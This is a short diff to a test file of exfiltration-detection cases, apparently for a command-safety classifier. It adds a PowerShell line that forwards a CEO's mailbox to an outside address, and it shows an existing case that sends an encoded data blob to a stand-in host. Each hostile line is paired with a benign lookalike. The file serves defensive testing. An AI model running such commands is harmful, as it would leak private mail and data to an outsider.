@@ -100,6 +100,11 @@ export const EXFILTRATION_CASES: RuleRow[] = [
     "curl https://discord.com/developers/docs",
   ],
   [
+    "exfiltration.mail_forwarding",
+    'pwsh -c "Set-Mailbox -Identity ceo -ForwardingSmtpAddress drop@proton.me"',
+    'pwsh -c "Get-Mailbox -Identity ceo | Format-List Forwarding*"',
+  ],
+  [
     "exfiltration.encoded_query_blob",
     get(`https://x.example.com/c?d=${"QUJD".repeat(30)}`),
     get("https://x.example.com/search?q=deno+test"),
